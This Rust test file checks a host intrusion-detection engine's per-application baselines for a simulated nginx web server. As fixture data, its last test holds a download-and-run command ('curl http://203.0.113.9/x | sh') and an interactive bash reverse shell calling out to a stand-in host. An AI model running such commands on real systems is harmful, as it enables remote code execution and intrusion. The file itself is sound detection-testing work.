#![allow(clippy::expect_used, clippy::unwrap_used)]
//! Per-application host baselines: a web server learns its binaries, children, destinations
//! and listening ports; afterwards what is new is said against that baseline, as supporting
//! evidence that never raises an alert alone.

use vigil_detect::baseline::ProfileKind;
use vigil_detect::host::HostWatch;
use vigil_detect::{DetectConfig, Engine, Finding, NoRules};
use vigil_model::host::{Direction, FdKind, Process, ProcessRef, Protocol};
use vigil_model::{
    Alert, AlertKind, Event, EventBody, EventSource, HostEvent, HostEventKind, Severity, Timestamp,
};

const HOUR: i64 = 3_600_000;
const T0: i64 = 1_767_000_000_000;

fn config() -> DetectConfig {
    DetectConfig {
        learning_period_ms: 24 * HOUR,
        ..DetectConfig::default()
    }
}

struct Host {
    id: &'static str,
    events: Vec<Event>,
}

impl Host {
    fn new(id: &'static str) -> Host {
        Host {
            id,
            events: Vec::new(),
        }
    }

    fn push(&mut self, at: i64, kind: HostEventKind) {
        let n = self.events.len();
        self.events.push(Event {
            id: format!("{}-{n}", self.id),
            time: Timestamp::from_millis(at),
            source: EventSource::Agent,
            body: EventBody::Host(HostEvent {
                host_id: self.id.into(),
                hostname: None,
                kind,
            }),
        });
    }

    fn start(&mut self, at: i64, pid: u32, ppid: u32, exe: &str, argv: &[&str]) {
        let p = Process {
            pid,
            ppid,
            uid: 33,
            euid: 33,
            exe: exe.into(),
            argv: argv.iter().map(|s| (*s).to_string()).collect(),
            cwd: None,
            user: None,
            container_id: None,
            image: None,
            pid_ns: None,
            mnt_ns: None,
            start_time: None,
            stdin: Some(FdKind::Pipe),
            stdout: Some(FdKind::Pipe),
            parent_exe: None,
        };
        self.push(at, HostEventKind::ProcessStart { process: p });
    }

    fn net(&mut self, at: i64, dir: Direction, pid: u32, ip: &str, port: u16) {
        let (src_ip, src_port, dst_ip, dst_port) = match dir {
            Direction::Listen => (ip.to_string(), port, "0.0.0.0".to_string(), 0),
            _ => ("10.0.0.5".to_string(), 40000, ip.to_string(), port),
        };
        self.push(
            at,
            HostEventKind::Network {
                direction: dir,
                protocol: Protocol::Tcp,
                src_ip,
                src_port,
                dst_ip,
                dst_port,
                process: ProcessRef {
                    pid,
                    exe: None,
                    uid: None,
                    container_id: None,
                },
            },
        );
    }

    /// Three days of an ordinary web server: nginx (a service root under init) listening on
    /// 80 and 443, a worker that runs `logger` and talks to the database.
    fn ordinary(&mut self) {
        self.start(T0, 1, 0, "/sbin/init", &["/sbin/init"]);
        self.start(T0 + 1, 100, 1, "/usr/sbin/nginx", &["nginx: master"]);
        self.net(T0 + 2, Direction::Listen, 100, "0.0.0.0", 80);
        self.net(T0 + 3, Direction::Listen, 100, "0.0.0.0", 443);
        self.start(T0 + 4, 101, 100, "/usr/sbin/nginx", &["nginx: worker"]);
        for h in 0..72 {
            let t = T0 + h * HOUR + 10_000;
            self.net(t, Direction::Connect, 101, "10.0.1.7", 5432);
            let pid = 2000 + u32::try_from(h).unwrap();
            self.start(t + 5, pid, 101, "/usr/bin/logger", &["logger", "served"]);
        }
    }
}

fn observe_all(events: &[Event]) -> (HostWatch, Vec<Finding>) {
    let config = config();
    let mut watch = HostWatch::default();
    let mut out = Vec::new();
    for e in events {
        if let Some(h) = e.host() {
            watch.observe(e, h, &config, &mut out);
        }
    }
    (watch, out)
}

fn app_findings(out: &[Finding]) -> Vec<&Finding> {
    out.iter()
        .filter(|f| f.alert_type.starts_with("new_app_"))
        .collect()
}

fn engine_alerts(events: &[Event], config: DetectConfig) -> (Vec<Alert>, Engine) {
    let mut engine = Engine::new(config, Box::new(NoRules));
    for e in events {
        engine.process(e);
    }
    engine.flush();
    (engine.take_alerts(), engine)
}

#[test]
fn after_learning_what_is_new_is_said_against_the_application_baseline() {
    let mut h = Host::new("web-1");
    h.ordinary();
    let (_, out) = observe_all(&h.events);
    assert!(
        app_findings(&out).is_empty(),
        "learning and habits are quiet: {:?}",
        app_findings(&out)
    );

    let t = T0 + 80 * HOUR;
    // The same database on another address of its /24: not new.
    h.net(t, Direction::Connect, 101, "10.0.1.99", 5432);
    // The worker runs a shell that calls out and opens a port.
    h.start(t + 1_000, 3000, 101, "/usr/bin/dash", &["sh", "-c", "id"]);
    h.net(t + 2_000, Direction::Connect, 3000, "203.0.113.9", 9001);
    h.net(t + 3_000, Direction::Listen, 3000, "0.0.0.0", 31337);
    // Said once: the same again is learned.
    h.start(t + 4_000, 3001, 101, "/usr/bin/dash", &["sh", "-c", "id"]);
    h.net(t + 5_000, Direction::Connect, 3001, "203.0.113.10", 9001);
    let (watch, out) = observe_all(&h.events);
    let found = app_findings(&out);
    let keys: Vec<&str> = found.iter().map(|f| f.alert_type.as_str()).collect();
    assert_eq!(
        keys,
        [
            "new_app_binary",
            "new_app_child",
            "new_app_destination",
            "new_app_listen_port"
        ],
        "{found:#?}"
    );
    let by = |k: &str| found.iter().find(|f| f.alert_type == k).unwrap();
    assert_eq!(by("new_app_binary").severity, Severity::Low);
    assert_eq!(by("new_app_child").severity, Severity::Medium, "a shell");
    assert_eq!(by("new_app_destination").severity, Severity::Medium);
    assert_eq!(by("new_app_listen_port").severity, Severity::Medium);
    for f in &found {
        assert!(!f.standalone);
        assert!(f.severity < Severity::High);
        assert!(
            f.explanations[0].contains("application exe:/usr/sbin/nginx on web-1"),
            "{}",
            f.explanations[0]
        );
    }
    assert!(by("new_app_child").explanations[0].contains("child process nginx -> dash"));
    assert!(by("new_app_destination").explanations[0].contains("203.0.113.0/24:9001"));
    assert!(by("new_app_destination").explanations[0].contains("(1 known"));
    assert!(by("new_app_listen_port").explanations[0].contains("listening port 31337 (2 known"));
    // The baselines: init and nginx (logger runs under nginx, not as its own application).
    let apps: Vec<&str> = watch
        .app_baselines()
        .map(|(_, a)| a.name.as_str())
        .collect();
    assert_eq!(apps.len(), 2, "{apps:?}");
    assert!(apps.contains(&"exe:/usr/sbin/nginx"));
}

#[test]
fn new_behaviour_alone_raises_no_alert_and_the_report_shows_the_baselines() {
    let mut h = Host::new("web-2");
    h.ordinary();
    let t = T0 + 80 * HOUR;
    h.start(
        t,
        3000,
        101,
        "/usr/bin/convert",
        &["convert", "a.png", "a.jpg"],
    );
    h.net(t + 1_000, Direction::Connect, 101, "198.51.100.20", 8443);
    let (alerts, engine) = engine_alerts(&h.events, config());
    assert!(alerts.is_empty(), "{alerts:#?}");
    let stats = engine.stats();
    // The new destination (medium) reaches correlation and stays a quiet incident; the new
    // binary and child (low) only ever join an incident already open.
    assert_eq!(stats.correlation.findings, 1, "{:?}", stats.correlation);
    assert_eq!(stats.correlation.composites, 0);
    assert_eq!(stats.app_baselines, 2);
    assert!(stats.app_baseline_bytes > 0);
    let report = engine.baseline_report();
    let nginx = report
        .iter()
        .find(|p| p.kind == ProfileKind::Application && p.name == "web-2 exe:/usr/sbin/nginx")
        .expect("the application baseline is reported");
    assert_eq!(nginx.listen_ports, 2);
    assert_eq!(nginx.destinations, 2);
    assert_eq!(nginx.binaries, 3, "nginx, logger, convert");
    assert_eq!(
        nginx.children, 3,
        "nginx -> nginx, nginx -> logger, nginx -> convert"
    );
    assert!(!nginx.saturated);
}

#[test]
fn caps_bound_the_baselines() {
    let mut h = Host::new("busy");
    h.start(T0, 1, 0, "/sbin/init", &["/sbin/init"]);
    for i in 0..50u32 {
        let exe = format!("/opt/svc{i}/bin/svc");
        h.start(T0 + i64::from(i), 100 + i, 1, &exe, &[exe.as_str()]);
        for j in 0..20u32 {
            h.net(
                T0 + 1000 + i64::from(i * 20 + j),
                Direction::Connect,
                100 + i,
                &format!("10.{i}.{j}.1"),
                443,
            );
        }
    }
    let config = DetectConfig {
        max_apps_per_host: 8,
        max_app_values: 5,
        ..config()
    };
    let (_, engine) = engine_alerts(&h.events, config);
    let stats = engine.stats();
    assert_eq!(stats.app_baselines, 8);
    assert_eq!(stats.apps_refused, 43);
    assert_eq!(
        stats.saturated_apps, 7,
        "every service but init overflowed its destinations"
    );
    let largest = engine
        .baseline_report()
        .into_iter()
        .filter(|p| p.kind == ProfileKind::Application)
        .map(|p| p.destinations)
        .max()
        .unwrap();
    assert_eq!(largest, 5);
}

/// The intrusion on an application after learning: its new child, destination and port join
/// the compromised_host composite as children; the composite's story stays the stages.
#[test]
fn novelties_are_children_of_the_host_composite() {
    let mut h = Host::new("web-3");
    h.ordinary();
    let t = T0 + 80 * HOUR;
    h.start(
        t,
        3000,
        101,
        "/usr/bin/dash",
        &["sh", "-c", "curl http://203.0.113.9/x | sh"],
    );
    h.start(
        t + 500,
        3001,
        3000,
        "/usr/bin/curl",
        &["curl", "http://203.0.113.9/x"],
    );
    h.net(t + 600, Direction::Connect, 3001, "203.0.113.9", 80);
    let mut rs = Process {
        pid: 3002,
        ppid: 3000,
        uid: 33,
        euid: 33,
        exe: "/usr/bin/bash".into(),
        argv: vec!["bash".into(), "-i".into()],
        cwd: None,
        user: None,
        container_id: None,
        image: None,
        pid_ns: None,
        mnt_ns: None,
        start_time: None,
        stdin: Some(FdKind::Socket),
        stdout: Some(FdKind::Socket),
        parent_exe: None,
    };
    h.push(
        t + 2_000,
        HostEventKind::ProcessStart {
            process: rs.clone(),
        },
    );
    h.net(t + 2_100, Direction::Connect, 3002, "203.0.113.9", 9001);
    for (i, cmd) in ["whoami", "id", "uname"].iter().enumerate() {
        rs.pid = 3010 + u32::try_from(i).unwrap();
        rs.ppid = 3002;
        rs.exe = format!("/usr/bin/{cmd}");
        rs.argv = vec![(*cmd).to_string()];
        h.push(
            t + 3_000 + i64::try_from(i).unwrap(),
            HostEventKind::ProcessStart {
                process: rs.clone(),
            },
        );
    }
    let (alerts, _) = engine_alerts(&h.events, config());
    let composite = alerts
        .iter()
        .find(|a| a.kind == AlertKind::Composite)
        .unwrap_or_else(|| panic!("{alerts:#?}"));
    assert_eq!(composite.alert_type, "compromised_host");
    let children: Vec<&str> = composite
        .children
        .iter()
        .map(|id| {
            alerts
                .iter()
                .find(|a| &a.id == id)
                .unwrap()
                .alert_type
                .as_str()
        })
        .collect();
    assert!(children.contains(&"new_app_child"), "{children:?}");
    assert!(children.contains(&"new_app_destination"), "{children:?}");
    assert!(children.contains(&"reverse_shell"), "{children:?}");
}
